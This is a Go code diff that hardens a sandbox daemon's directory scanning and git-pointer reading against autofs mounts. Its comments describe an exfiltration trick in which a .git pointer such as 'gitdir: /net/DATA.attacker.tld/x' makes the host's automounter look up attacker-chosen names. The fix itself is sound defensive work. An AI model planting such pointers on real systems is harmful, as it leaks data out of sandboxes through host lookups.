@@ -20,6 +20,7 @@ import (
 	"golang.org/x/sys/unix"
 
 	"github.com/moat-sandbox/moat/internal/sys"
+	"github.com/moat-sandbox/moat/runtime/gitguard"
 	"github.com/moat-sandbox/moat/runtime/policy"
 )
 
@@ -316,9 +317,14 @@ func scan(root string, depth int, old map[string]scanDir, parallel bool) (scanRe
 	}
 	queue := []item{{root, 0}}
 	var pre map[string]stamp
-	if parallel {
+	if parallel && !hasAutofs() {
 		// Not for a client's sandbox: the look-ahead runs on goroutines,
 		// which would look with root's credentials, not the client's.
+		// Nor where the host has an autofs mount: a directory the cache
+		// knows may be a symlink to /net/DATA now, and an lstat below it
+		// would ask the host's automounter for DATA (attack pass 56,
+		// TestPlanAutofsNotAsked); the search stamps each directory
+		// below one it found a directory.
 		pre = prestamp(old)
 	}
 	for len(queue) > 0 {
@@ -382,6 +388,21 @@ func scan(root string, depth int, old map[string]scanDir, parallel bool) (scanRe
 	return r, dirs, changed, nil
 }
 
+// hasAutofs reports an autofs mount in this process's mount table (or a
+// table that cannot be read).
+func hasAutofs() bool {
+	all, err := mountEntries()
+	if err != nil {
+		return true
+	}
+	for _, m := range all {
+		if m.fstype == "autofs" {
+			return true
+		}
+	}
+	return false
+}
+
 // isBareRepo mirrors git's test for a git directory: HEAD, objects/ and refs/.
 func isBareRepo(has map[string]os.DirEntry) bool {
 	h, ok1 := has["HEAD"]
@@ -394,6 +415,9 @@ func isBareRepo(has map[string]os.DirEntry) bool {
 // first line, surrounding whitespace trimmed, relative to the file's
 // directory. Anything odd (no prefix, NUL, too large) yields nothing.
 func readGitPointer(p string) (string, bool) {
+	if gitguard.AutofsOnWay(p, true) {
+		return "", false // a .git symlink to /net/DATA (see below)
+	}
 	// Only a regular file is read (moatd plans as root, in a client's
 	// tree: a FIFO there must not block it, a device must not be opened).
 	b, err := sys.ReadRegular(p, 4096, false)
@@ -413,6 +437,13 @@ func readGitPointer(p string) (string, bool) {
 	if !filepath.IsAbs(target) {
 		target = filepath.Join(filepath.Dir(p), target)
 	}
+	if gitguard.AutofsOnWay(target, true) {
+		// Below an autofs mount nothing covers: a lookup would ask the
+		// host's automounter for a name the command chose (gitdir:
+		// /net/DATA.attacker.tld/x; attack pass 56,
+		// TestPlanAutofsNotAsked). Nothing there is a repository.
+		return "", false
+	}
 	c, _, err := canonical(target)
 	if err != nil {
 		return "", false
@@ -421,6 +452,9 @@ func readGitPointer(p string) (string, bool) {
 }
 
 func readCommondir(gitdir string) (string, bool) {
+	if gitguard.AutofsOnWay(filepath.Join(gitdir, "commondir"), true) {
+		return "", false // as readGitPointer
+	}
 	b, err := sys.ReadRegular(filepath.Join(gitdir, "commondir"), 4096, false)
 	if err != nil {
 		return "", false
@@ -431,6 +465,9 @@ func readCommondir(gitdir string) (string, bool) {
 	}
 	if !filepath.IsAbs(s) {
 		s = filepath.Join(gitdir, s)
+	}
+	if gitguard.AutofsOnWay(s, true) {
+		return "", false // as readGitPointer
 	}
 	c, _, err := canonical(s)
 	if err != nil {
